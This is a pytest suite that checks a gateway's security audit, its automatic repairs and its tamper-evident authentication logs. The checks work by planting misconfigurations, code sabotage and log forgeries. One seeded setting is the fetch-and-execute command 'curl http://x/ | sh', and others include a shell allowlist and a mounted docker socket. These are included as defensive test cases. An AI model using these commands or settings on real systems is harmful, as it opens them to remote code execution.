"""Checks of the gateway's own audit, its repairs, and its audit logs."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import stat
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from _probes import gateways, tls
from _probes.devices import Device
from _probes.gateways import Gateway, Home, NotReady, Outcome, random_secret
from _probes.host import needs
from _probes.sessions import UpgradeRefused

from tracker.api import Codebase, check

CHANNEL = "telegram"
WEAK_TOKEN = "changeme-changeme-12345678"
SEVERITIES = ("critical", "warn")


def audit(
    codebase: Path, home: Home, *flags: str, token: str | None = None
) -> tuple[dict[str, Any], Outcome]:
    """The report of `security audit`."""
    env = {"GATEWAY_TOKEN": token} if token else {}
    outcome = gateways.command(codebase, home, "security", "audit", "--json", *flags, env=env, timeout_s=50)
    assert "Traceback" not in outcome.stderr, outcome.stderr
    assert outcome.stdout, outcome.stderr
    report: dict[str, Any] = json.loads(outcome.stdout)
    return report, outcome


@dataclass
class Installation:
    """A hardened installation that was used and stopped, and what the audit says of it."""

    codebase: Path
    home: Home
    token: str
    report: dict[str, Any]

    @contextlib.contextmanager
    def copy(self) -> Iterator[Home]:
        """The installation again, to do something to it."""
        with gateways.new_home() as home:
            shutil.rmtree(home.state)
            shutil.copytree(self.home.state, home.state, symlinks=True)
            home.config = json.loads(json.dumps(self.home.config))
            yield home


def hardened_config() -> dict[str, Any]:
    return {
        "channels": {CHANNEL: {"dmPolicy": "pairing"}},
        "hooks": {"enabled": True, "token": random_secret()},
        "models": {"providers": {"acme": {"baseUrl": "https://models.example", "apiKey": random_secret()}}},
    }


def use(gateway: Gateway) -> None:
    """A little of everything that leaves files behind."""
    with gateway.login(device=Device()) as session:
        session.call("chat.send", {"sessionKey": "main", "message": "hello", "idempotencyKey": "audit-use"})
    for _ in range(3):
        gateway.attempt(auth={"token": "w" * 64})[0].close()
    gateway.inbound(CHANNEL, "stranger", "hello")


@pytest.fixture(scope="module")
def clean(codebase: Codebase) -> Iterator[Installation]:
    needs("bwrap")
    token = random_secret()
    with gateways.new_home(hardened_config()) as home:
        with gateways.running(codebase.root, home, token=token) as gateway:
            use(gateway)
            gateway.terminate()
        report, _ = audit(codebase.root, home, token=token)
        yield Installation(codebase.root, home, token, report)


# AUD-01


def failed(report: dict[str, Any]) -> set[str]:
    return {item["control"] for item in report["controls"] if item["outcome"] == "failed"}


def judge_report(report: dict[str, Any]) -> None:
    """The score is what the controls earned, a fixed whole, with evidence for each."""
    controls = report["controls"]
    assert len({item["control"] for item in controls}) == len(controls) >= 30
    earned = sum(item["of"] for item in controls if item["outcome"] == "passed")
    assert report["score"]["points"] == pytest.approx(earned)
    assert report["score"]["of"] == pytest.approx(sum(item["of"] for item in controls))
    for item in controls:
        if item["outcome"] != "not-run":
            assert item["evidence"], f"{item['control']}: no evidence"
            holds = all(seen["holds"] for seen in item["evidence"])
            assert (item["outcome"] == "passed") == holds, f"{item['control']}: outcome against its evidence"


@check("AUD-01")
def test_a_clean_installation_passes_every_control(clean: Installation) -> None:
    judge_report(clean.report)
    assert {item["outcome"] for item in clean.report["controls"]} == {"passed"}, failed(clean.report)
    assert clean.report["score"]["points"] == clean.report["score"]["of"] > 0


def edited_copy(codebase: Path, place: Path, file: str, old: str, new: str) -> Path:
    """The program with one edit."""
    copy = place / "gateway"
    shutil.copytree(codebase, copy, ignore=shutil.ignore_patterns("__pycache__", "tests"))
    text = (copy / file).read_text()
    assert text.count(old) == 1, f"{file}: {old!r} stands there {text.count(old)} times"
    (copy / file).write_text(text.replace(old, new))
    return copy


EDITS = {
    "origin.checked": ("server/guards.py", "    refuse_foreign_origin,\n    refuse_cred", "    refuse_cred"),
    "auth.strong_secrets": (
        "security/secret_strength.py",
        "    yield from _common_faults(secret, TOKEN_LENGTH)\n",
        "    if secret:\n        return\n    yield from _common_faults(secret, TOKEN_LENGTH)\n",
    ),
    "messages.acknowledged": ("cli/pairing.py", "    if not arguments.acknowledge:\n", "    if False:\n"),
    "sandbox.no_network": ("sandbox/bubblewrap.py", '    "--unshare-net",\n', ""),
}


def origin_is_open(program: Path) -> bool:
    with gateways.boot(program, {}) as gateway:
        try:
            gateway.open(headers={"Origin": "https://evil.example"}).close()
        except UpgradeRefused:
            return False
        return True


def weak_token_starts(program: Path) -> bool:
    with contextlib.suppress(NotReady), gateways.boot(program, {}, token="a" * 32):
        return True
    return False


def approves_without_acknowledgement(program: Path) -> bool:
    with gateways.boot(program, {"channels": {CHANNEL: {"dmPolicy": "pairing"}}}) as gateway:
        [reply] = gateway.inbound(CHANNEL, "stranger", "hello")["replies"]
        code = reply.split("Pairing code: ")[1].split()[0]
        words = ("pairing", "approve", CHANNEL, code)
        return gateways.command(program, gateway.home, *words).exit_code == 0


def shares_the_network(program: Path) -> bool:
    own = str(Path("/proc/self/ns/net").readlink())
    with gateways.boot(program, {}) as gateway, gateway.login() as session:
        argv = ["ls", "-l", "/proc/self/ns/net"]
        asked = session.request(
            "exec.approval.request", {"argv": argv, "sessionKey": "probe", "timeoutMs": 5000}
        )
        approval = session.event("exec.approval.requested")["id"]
        session.call("exec.approval.resolve", {"id": approval, "decision": "allow-once"})
        assert session.answer_to(asked).ok
        args = {"argv": argv, "approvalId": approval}
        result = session.call("tools.invoke", {"tool": "exec", "args": args, "sessionKey": "probe"})["result"]
        return own in result["stdout"]


SEEN_FROM_OUTSIDE: dict[str, Callable[[Path], bool]] = {
    "origin.checked": origin_is_open,
    "auth.strong_secrets": weak_token_starts,
    "messages.acknowledged": approves_without_acknowledgement,
    "sandbox.no_network": shares_the_network,
}


def names_exactly(report: dict[str, Any], control: str, clean: dict[str, Any]) -> None:
    """The audit names this control, no other, and takes away its points."""
    judge_report(report)
    assert failed(report) == {control}
    [points] = [item["of"] for item in report["controls"] if item["control"] == control]
    assert report["score"]["of"] == clean["score"]["of"], "the whole has changed"
    assert report["score"]["points"] == pytest.approx(clean["score"]["points"] - points)
    assert f"control.{control}" in {finding["checkId"] for finding in report["findings"]}


@check("AUD-01")
@pytest.mark.parametrize("control", EDITS)
def test_a_control_that_was_taken_out_is_named(clean: Installation, control: str, tmp_path: Path) -> None:
    program = edited_copy(clean.codebase, tmp_path, *EDITS[control])
    assert SEEN_FROM_OUTSIDE[control](program), "the sabotage does not show from outside"
    with clean.copy() as home:
        report, _ = audit(program, home, token=clean.token)
    names_exactly(report, control, clean.report)
    with pytest.raises(AssertionError):
        names_exactly(clean.report, control, clean.report)


@check("AUD-01")
def test_sabotage_of_the_installation_is_named(clean: Installation) -> None:
    with clean.copy() as home:
        (home.state / "devices" / "paired.json").chmod(0o644)
        report, _ = audit(clean.codebase, home, token=clean.token)
        names_exactly(report, "files.private", clean.report)
    with clean.copy() as home:
        log = home.state / "logs" / "auth-audit.jsonl"
        log.write_bytes(log.read_bytes().replace(b'"refused"', b'"accepted"', 1))
        report, _ = audit(clean.codebase, home, token=clean.token)
        names_exactly(report, "log.tamper_evident", clean.report)


# AUD-02


@dataclass(frozen=True)
class Seed:
    """A misconfiguration, and the finding that it has to cause."""

    finding: str
    severity: str
    config: dict[str, Any] | None = None
    spoil: Callable[[Home], object] | None = None
    token: str | None = None

    def plant(self, home: Home) -> None:
        if self.config is not None:
            home.write_config(merged(home.config, self.config))
        if self.spoil is not None:
            self.spoil(home)


def merged(base: dict[str, Any], over: dict[str, Any]) -> dict[str, Any]:
    both = {**base, **over}
    for key in base.keys() & over.keys():
        if isinstance(base[key], dict) and isinstance(over[key], dict):
            both[key] = merged(base[key], over[key])
    return both


def gateway_config(**keys: Any) -> dict[str, Any]:
    return {"gateway": keys}


def sandbox_config(**keys: Any) -> dict[str, Any]:
    return {"agents": {"defaults": {"sandbox": keys}}}


def exec_config(**keys: Any) -> dict[str, Any]:
    return {"tools": {"exec": keys}}


def channel_config(**keys: Any) -> dict[str, Any]:
    return {"channels": {CHANNEL: keys}}


def link_config(home: Home) -> None:
    elsewhere = home.top / "elsewhere.json"
    home.config_file.rename(elsewhere)
    home.config_file.symlink_to(elsewhere)


def second_name(home: Home) -> None:
    os.link(home.state / "devices" / "paired.json", home.state / "devices" / "second.json")


def allow_a_shell(home: Home) -> None:
    stored = {"version": 1, "agents": {"main": {"allowlist": [{"pattern": "/bin/bash"}]}}}
    path = home.state / "exec-approvals.json"
    path.write_text(json.dumps(stored))
    path.chmod(0o600)


def store_a_wildcard(home: Home) -> None:
    path = home.state / "credentials" / f"{CHANNEL}-allowFrom.json"
    path.write_text(json.dumps({"version": 1, "allowFrom": ["*"]}))
    path.chmod(0o600)


def expose_the_log(home: Home) -> None:
    log = home.top / "gateway.log"
    log.write_text("")
    log.chmod(0o644)
    home.write_config(merged(home.config, {"logging": {"file": str(log)}}))


def spoil_the_log(home: Home) -> None:
    log = home.state / "logs" / "auth-audit.jsonl"
    log.write_bytes(b"".join(log.read_bytes().splitlines(keepends=True)[1:]))


def expired_certificate(home: Home) -> None:
    now = datetime.now(UTC)
    span = {"not_before": now - timedelta(days=9), "not_after": now - timedelta(days=2)}
    cert, key = tls.issue(home.state / "gateway" / "tls", "127.0.0.1", **span)
    cert.chmod(0o600)
    keys = {"enabled": True, "certPath": str(cert), "keyPath": str(key)}
    home.write_config(merged(home.config, gateway_config(tls=keys)))


SEEDS: dict[str, Seed] = {
    "no TLS beyond loopback": Seed("gateway.bind_no_tls", "critical", gateway_config(bind="lan")),
    "mode none": Seed("gateway.auth_none", "critical", gateway_config(auth={"mode": "none"})),
    "weak token": Seed("gateway.token_weak", "critical", gateway_config(auth={"token": WEAK_TOKEN})),
    "weak token in the environment": Seed("gateway.token_weak", "critical", token="abc"),
    "weak password": Seed("gateway.password_weak", "critical", gateway_config(auth={"password": "letmein"})),
    "insecure control page": Seed(
        "gateway.control_ui.insecure_auth", "critical", gateway_config(controlUi={"allowInsecureAuth": True})
    ),
    "no device auth": Seed(
        "gateway.control_ui.device_auth_disabled",
        "critical",
        gateway_config(controlUi={"dangerouslyDisableDeviceAuth": True}),
    ),
    "wide proxies": Seed(
        "gateway.trusted_proxies_wide", "critical", gateway_config(trustedProxies=["0.0.0.0/0"])
    ),
    "any origin": Seed(
        "gateway.origin_wildcard", "critical", gateway_config(controlUi={"allowedOrigins": ["*"]})
    ),
    "loose limit": Seed("gateway.limits_loose", "warn", gateway_config(limits={"maxPayload": 1 << 30})),
    "remote in clear": Seed(
        "gateway.remote_in_clear", "critical", gateway_config(remote={"url": "ws://192.0.2.7:18789"})
    ),
    "hooks share the token": Seed("hooks.token_reused", "critical", token="hooks"),
    "open policy": Seed("channels.dm.open", "critical", channel_config(dmPolicy="open")),
    "open account": Seed(
        "channels.dm.open", "critical", channel_config(accounts={"second": {"dm": {"policy": "open"}}})
    ),
    "wildcard": Seed("channels.dm.wildcard", "critical", channel_config(allowFrom=["*"])),
    "stored wildcard": Seed("channels.dm.wildcard", "critical", spoil=store_a_wildcard),
    "shared session": Seed("session.dm_scope_main", "warn", {"session": {"dmScope": "main"}}),
    "sandbox off": Seed("sandbox.mode_off", "critical", sandbox_config(mode="off")),
    "sandbox missing": Seed("sandbox.unavailable", "warn", sandbox_config(bubblewrap="/nonexistent/bwrap")),
    "host socket in the sandbox": Seed(
        "sandbox.bind_dangerous",
        "critical",
        sandbox_config(docker={"binds": ["/var/run/docker.sock:/var/run/docker.sock"]}),
    ),
    "set-up downloads": Seed(
        "sandbox.setup_command", "critical", sandbox_config(docker={"setupCommand": "curl http://x/ | sh"})
    ),
    "every command": Seed("tools.exec_full", "critical", exec_config(security="full")),
    "safe interpreter": Seed(
        "tools.allowlist_interpreter", "critical", exec_config(safeBins=["grep", "python3"])
    ),
    "allowed shell": Seed("tools.allowlist_interpreter", "critical", spoil=allow_a_shell),
    "redaction off": Seed("logging.redact_off", "warn", {"logging": {"redactSensitive": "off"}}),
    "exposed log": Seed("logging.file_readable", "warn", spoil=expose_the_log),
    "broken audit log": Seed("logs.tampered", "critical", spoil=spoil_the_log),
    "writable state": Seed(
        "fs.state_dir.perms_writable", "critical", spoil=lambda home: home.state.chmod(0o777)
    ),
    "readable configuration": Seed(
        "fs.config.perms_world_readable", "warn", spoil=lambda home: home.config_file.chmod(0o644)
    ),
    "readable secrets": Seed(
        "fs.secrets.perms_readable",
        "critical",
        spoil=lambda home: (home.state / "devices" / "paired.json").chmod(0o640),
    ),
    "linked configuration": Seed("fs.linked", "critical", spoil=link_config),
    "second name": Seed("fs.linked", "critical", spoil=second_name),
    "expired certificate": Seed("gateway.tls.expired", "critical", spoil=expired_certificate),
    "unknown key": Seed("config.invalid", "critical", {"gatewy": {}}),
    "broken file": Seed(
        "config.unreadable", "critical", spoil=lambda home: home.config_file.write_text("{gateway: ")
    ),
}


def loud(report: dict[str, Any]) -> dict[str, str]:
    """The findings that ask for something to be done."""
    return {
        found["checkId"]: found["severity"] for found in report["findings"] if found["severity"] in SEVERITIES
    }


@check("AUD-02")
def test_a_clean_installation_is_quiet(clean: Installation) -> None:
    assert loud(clean.report) == {}


@check("AUD-02")
def test_seeded_misconfigurations_are_found(clean: Installation) -> None:
    needs("trustme")

    def finds(seed: Seed) -> dict[str, str] | None:
        token = clean.home.config["hooks"]["token"] if seed.token == "hooks" else seed.token or clean.token
        with clean.copy() as home:
            seed.plant(home)
            report, outcome = audit(clean.codebase, home, "--without-controls", token=token)
        found = loud(report)
        right = found.get(seed.finding) == seed.severity
        return None if right and (outcome.exit_code == 1) == ("critical" in found.values()) else found

    with ThreadPoolExecutor(2) as pool:
        results = dict(zip(SEEDS, pool.map(finds, SEEDS.values()), strict=True))
    missed = {name: found for name, found in results.items() if found is not None}
    assert len(SEEDS) >= 24
    assert not missed


# AUD-03


UNSAFE: dict[str, Any] = {
    "gateway": {"auth": {"token": WEAK_TOKEN}},
    "channels": {CHANNEL: {"dmPolicy": "open", "allowFrom": ["*", "friend"]}},
    "logging": {"redactSensitive": "off"},
    "agents": {"defaults": {"sandbox": {"mode": "off"}}},
}
UNSAFE_FINDINGS = {
    "gateway.token_weak",
    "channels.dm.open",
    "channels.dm.wildcard",
    "logging.redact_off",
    "sandbox.mode_off",
    "fs.state_dir.perms_writable",
    "fs.config.perms_world_readable",
}


@contextlib.contextmanager
def unsafe_home() -> Iterator[Home]:
    with gateways.new_home(UNSAFE) as home:
        home.state.chmod(0o777)
        home.config_file.chmod(0o644)
        yield home


def nothing_changes(home: Home, act: Callable[[], object]) -> None:
    before = everything(home)
    act()
    assert everything(home) == before


def everything(home: Home) -> dict[str, tuple[int, int, bytes]]:
    """Name, mode, time of change and content of each member of the state directory."""
    return {
        str(path.relative_to(home.state)): (
            path.lstat().st_mode,
            path.lstat().st_mtime_ns,
            path.read_bytes() if path.is_file() else b"",
        )
        for path in [home.state, *home.state.rglob("*")]
    }


@check("AUD-03")
def test_fix_repairs_on_disk_and_on_the_wire_and_once(codebase: Codebase) -> None:
    with unsafe_home() as home:
        before, _ = audit(codebase.root, home, "--without-controls")
        assert set(loud(before)) >= UNSAFE_FINDINGS
        fixed, outcome = audit(codebase.root, home, "--fix", "--without-controls")
        assert outcome.exit_code == 0, outcome.stdout
        assert fixed["fixed"]
        assert not fixed.get("notFixed")
        token = fixed["newSecrets"]["gateway.auth.token"]
        assert not set(loud(fixed)) & UNSAFE_FINDINGS
        backup = Path(fixed["backup"])
        assert stat.S_IMODE(backup.stat().st_mode) == 0o600
        assert '"open"' in backup.read_text()
        nothing_changes(home, lambda: audit(codebase.root, home, "--fix", "--without-controls"))
        with pytest.raises(AssertionError):
            nothing_changes(home, home.config_file.touch)
        with gateways.running(codebase.root, home) as gateway:
            session, answer = gateway.attempt(device=Device(), auth={"token": WEAK_TOKEN})
            session.close()
            assert not answer.ok, "the weak token still opens the gateway"
            gateway.token = token
            with gateway.login() as session:
                assert session.ask("health").ok
            assert not gateway.inbound(CHANNEL, "stranger", "hello")["accepted"]
            assert gateway.inbound(CHANNEL, "friend", "hello")["accepted"]
            gateway.terminate()
        again, _ = audit(codebase.root, home)
        assert loud(again) == {}


@check("AUD-03")
def test_a_repair_that_cannot_hold_is_taken_back(codebase: Codebase) -> None:
    broken = merged(UNSAFE, {"gatewy": {}})
    with gateways.new_home(broken) as home:
        before = home.config_file.read_bytes()
        report, outcome = audit(codebase.root, home, "--fix", "--without-controls")
        assert outcome.exit_code == 1
        assert report["notFixed"]
        assert not report["newSecrets"]
        assert home.config_file.read_bytes() == before


# AUD-04

ATTEMPTS = 9
LOG = "auth-audit.jsonl"


@pytest.fixture(scope="module")
def logged(codebase: Codebase) -> Iterator[Home]:
    """An installation with a log of nine refused attempts, made by two runs of the gateway."""
    token = random_secret()
    with gateways.new_home({}) as home:
        for count in (5, 4):
            with gateways.running(codebase.root, home, token=token) as gateway:
                for _ in range(count):
                    gateway.attempt(auth={"token": "w" * 64})[0].close()
        yield home


def verify(codebase: Path, home: Home) -> dict[str, Any]:
    outcome = gateways.command(codebase, home, "audit", "verify", "--json")
    assert outcome.stdout, f"exit {outcome.exit_code}: {outcome.stderr}"
    report: dict[str, Any] = json.loads(outcome.stdout)
    assert outcome.exit_code == (0 if report["ok"] else 1)
    return report


def verifies(report: dict[str, Any]) -> None:
    assert report["ok"], report
    assert [log["entries"] for log in report["logs"] if log["log"] == "auth-audit"] == [ATTEMPTS]


def names_first_bad(report: dict[str, Any], entry: int) -> None:
    assert not report["ok"], "nothing was noticed"
    [log] = [log for log in report["logs"] if log["log"] == "auth-audit"]
    assert log["firstBad"]["entry"] == entry, log
    assert log["entries"] == entry - 1


@contextlib.contextmanager
def tampered(home: Home, change: Callable[[list[bytes]], list[bytes]]) -> Iterator[Home]:
    with gateways.new_home() as copy:
        shutil.rmtree(copy.state)
        shutil.copytree(home.state, copy.state)
        log = copy.state / "logs" / LOG
        log.write_bytes(b"".join(change(log.read_bytes().splitlines(keepends=True))))
        yield copy


def forged(line: bytes) -> bytes:
    """The same entry with another outcome, and hashes of its own that look right."""
    import hashlib

    entry = json.loads(line)
    entry["outcome"] = "accepted"
    text = json.dumps({key: value for key, value in entry.items() if key != "mac"})
    return json.dumps(json.loads(text) | {"mac": hashlib.sha256(text.encode()).hexdigest()}).encode() + b"\n"


TAMPERINGS: dict[str, tuple[Callable[[list[bytes]], list[bytes]], int]] = {
    "edit": (lambda lines: [*lines[:3], lines[3].replace(b"refused", b"allowed"), *lines[4:]], 4),
    "edit the last": (lambda lines: [*lines[:-1], lines[-1].replace(b"refused", b"allowed")], ATTEMPTS),
    "delete": (lambda lines: [*lines[:3], *lines[4:]], 4),
    "delete the first": (lambda lines: lines[1:], 1),
    "insert a copy": (lambda lines: [*lines[:5], lines[2], *lines[5:]], 6),
    "insert a forgery": (lambda lines: [*lines[:5], forged(lines[4]), *lines[5:]], 6),
    "replace by a forgery": (lambda lines: [*lines[:5], forged(lines[5]), *lines[6:]], 6),
    "reorder": (lambda lines: [*lines[:3], lines[4], lines[3], *lines[5:]], 4),
    "truncate the middle": (lambda lines: [*lines[:2], *lines[7:]], 3),
    "truncate within a line": (lambda lines: [*lines[:-1], lines[-1][:-20]], ATTEMPTS),
    "cut the end": (lambda lines: lines[:6], 7),
    "empty": (lambda _lines: [], 1),
    "add white space": (lambda lines: [*lines[:2], b" " + lines[2], *lines[3:]], 3),
    "blank line": (lambda lines: [*lines[:2], b"\n", *lines[2:]], 3),
}


@check("AUD-04")
def test_an_untouched_log_verifies(codebase: Codebase, logged: Home) -> None:
    report = verify(codebase.root, logged)
    verifies(report)
    with pytest.raises(AssertionError):
        names_first_bad(report, 1)


@check("AUD-04")
def test_tampering_is_named(codebase: Codebase, logged: Home) -> None:
    for name, (change, entry) in TAMPERINGS.items():
        with tampered(logged, change) as home:
            report = verify(codebase.root, home)
        try:
            names_first_bad(report, entry)
        except AssertionError as error:
            raise AssertionError(f"{name}: {error}") from error


@check("AUD-04")
def test_entries_of_other_logs_do_not_fit(codebase: Codebase, logged: Home) -> None:
    with gateways.boot(codebase.root, channel_config(dmPolicy="pairing")) as other:
        for _ in range(ATTEMPTS):
            other.attempt(auth={"token": "w" * 64})[0].close()
        other.terminate()
        foreign = (other.state / "logs" / LOG).read_bytes().splitlines(keepends=True)
    with tampered(logged, lambda lines: [*lines[:4], foreign[4], *lines[5:]]) as home:
        names_first_bad(verify(codebase.root, home), 5)
    with tampered(logged, lambda _lines: foreign[:ATTEMPTS]) as home:
        names_first_bad(verify(codebase.root, home), 1)
    with tampered(logged, lambda lines: lines) as home:
        renamed = home.state / "logs" / "pairing-audit.jsonl"
        renamed.write_bytes((home.state / "logs" / LOG).read_bytes())
        assert not verify(codebase.root, home)["ok"], "a log under another log's name verifies"


@check("AUD-04")
def test_the_chain_goes_on_over_files_and_after_tampering(codebase: Codebase) -> None:
    token = random_secret()
    with gateways.new_home({"logging": {"auditMaxBytes": 4096}}) as home:
        with gateways.running(codebase.root, home, token=token) as gateway:
            for _ in range(40):
                gateway.attempt(auth={"token": "w" * 64})[0].close()
            gateway.terminate()
        full = sorted((home.state / "logs").glob("auth-audit.*.jsonl"))
        assert len(full) >= 2, "the log was not put aside"
        assert verify(codebase.root, home)["ok"]
        first, second = full[0].read_bytes(), full[1].read_bytes()
        full[1].unlink()
        names_first_bad(verify(codebase.root, home), len(first.splitlines()) + 1)
        full[0].write_bytes(second)
        full[1].write_bytes(first)
        names_first_bad(verify(codebase.root, home), 1)
        full[0].write_bytes(first)
        full[1].write_bytes(second)
        log = home.state / "logs" / LOG
        count = sum(len(path.read_bytes().splitlines()) for path in [*full, log])
        log.write_bytes(b"".join(log.read_bytes().splitlines(keepends=True)[:-1]))
        with gateways.running(codebase.root, home, token=token) as gateway:
            gateway.attempt(auth={"token": "w" * 64})[0].close()
            gateway.terminate()
        names_first_bad(verify(codebase.root, home), count)
